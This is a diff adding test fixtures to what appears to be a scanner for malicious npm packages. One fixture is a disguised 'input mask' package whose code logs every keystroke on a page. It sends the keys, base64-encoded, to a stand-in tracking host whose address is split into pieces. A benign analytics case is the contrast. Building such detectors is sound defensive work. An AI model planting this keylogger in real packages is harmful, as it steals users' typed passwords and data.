@@ -2330,6 +2330,42 @@ fs.writeFileSync(path.join(hooks, 'pre-commit'), '#!/bin/sh\\nnpx lint-staged\\n
   });
 });
 
+describe('timers and handlers run after the top level', () => {
+  it('the keylogger rewritten: buffer in a shared state object, handler and timer in two other files, the timer started first', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'react-input-mask-pro',
+        version: '3.1.0',
+        main: 'src/index.js',
+      }),
+      'src/store.js': `export const state = { q: [], cfg: { parts: ['https://', 'static-cdn', '.inputmask-stats.example', '/p.gif'] } };
+export function remember(ev) { state.q.push([ev.key, ev.target && ev.target.id].join(':')); }`,
+      'src/flush.js': `import { state } from './store';
+export function flush() {
+  if (state.q.length) { const img = new Image(); img.src = state.cfg.parts.join('') + '?d=' + btoa(state.q.join('|')); state.q.length = 0; }
+  setTimeout(flush, 4000);
+}`,
+      'src/index.js': `import { remember } from './store';
+import { flush } from './flush';
+const EVENTS = ['keyup', 'input'];
+if (typeof document !== 'undefined') { EVENTS.forEach((name) => document.addEventListener(name, remember, { capture: true })); flush(); }
+export default function mask(v) { return v; }`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('an analytics buffer of clicks flushed by a timer sends no page secret', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const q = [];
+function remember(e) { q.push({ x: e.clientX, y: e.clientY, t: Date.now() }); }
+function flush() { if (q.length) navigator.sendBeacon('https://collect.example-analytics.com/c', JSON.stringify(q.splice(0))); setTimeout(flush, 5000); }
+document.addEventListener('click', remember, true); flush();`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
